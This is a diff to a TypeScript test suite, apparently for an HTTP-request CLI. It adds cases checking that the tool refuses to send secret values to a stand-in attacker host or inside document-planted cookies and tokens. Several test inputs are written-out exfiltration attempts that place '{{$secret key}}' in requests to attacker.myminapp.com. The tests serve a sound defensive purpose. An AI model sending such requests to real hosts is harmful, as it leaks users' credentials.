@@ -25,6 +25,8 @@ describe('a document that names addresses of the service', () => {
     const staging = ['--env', 'Staging'];
     const written = '@token = of-the-attacker\nPOST /oserve/v1.8/table/\nAuthorization: Bearer {{token}}\n\n';
     const ownToken = `${written.replace('of-the-attacker', '{{$secret key}}')}{{$secret key}}`;
+    const cookie = (value: string) => `@id = of-the-attacker\nPOST /userve/v2.4/table/1/record/\nCookie: ${value}\n\n`;
+    const ownCookie = `${cookie('session={{$secret key}}; csrf = {{$secret key}}')}{{$secret key}}`;
     const cases: [name: string, document: string, args: string[], code: number, says: RegExp][] = [
       ['a secret', `POST ${other}/a/\n${header}\n{{$secret key}}`, staging, 2, gets('attacker.myminapp.com')],
       ['a secret of a sandbox', `POST ${other}/a/\n\n{{$secret key}}`, ['--sandbox'], 2, gets('attacker.myminapp.com')],
@@ -33,12 +35,22 @@ describe('a document that names addresses of the service', () => {
       ['a write of a sandbox', `DELETE ${own}/a/`, ['--sandbox'], 2, production],
       ['a write by http', `DELETE ${own.replace('https', 'http')}./a/`, staging, 2, production],
       ['a secret with a token of another application', `${written}{{$secret key}}`, staging, 2, foreign],
+      ['a secret with a cookie of the document', `${cookie('session={{id}}')}{{$secret key}}`, staging, 2, foreign],
+      [
+        'a secret with a cookie beside one of its own',
+        `${cookie('a={{$secret key}}; session={{id}}')}{{$secret key}}`,
+        staging,
+        2,
+        foreign,
+      ],
     ];
     const sent: typeof cases = [
       ['the own host', `POST ${own}/a/\n\n{{$secret key}}`, staging, 3, noNetwork('client-1.myminapp.com')],
       ['the Open API', 'GET /oserve/v1/table/', staging, 3, noNetwork('cloud.minapp.com')],
       ['the Open API with a token in the document', `${written}{}`, staging, 3, noNetwork('cloud.minapp.com')],
       ['the Open API with a secret as the token', ownToken, staging, 3, noNetwork('cloud.minapp.com')],
+      ['the console with secrets as its cookies', ownCookie, staging, 3, noNetwork('cloud.minapp.com')],
+      ['the console with a cookie of the document', `${cookie('session={{id}}')}{}`, staging, 3, noNetwork('cloud')],
       ['an allowed host', `POST ${other}/a/\n\n{{$secret key}}`, [...staging, ...allowed], 3, noNetwork('attacker')],
     ];
     const env = { ...offline, HYDROGEN_CLIENT_ID: 'client-1' };
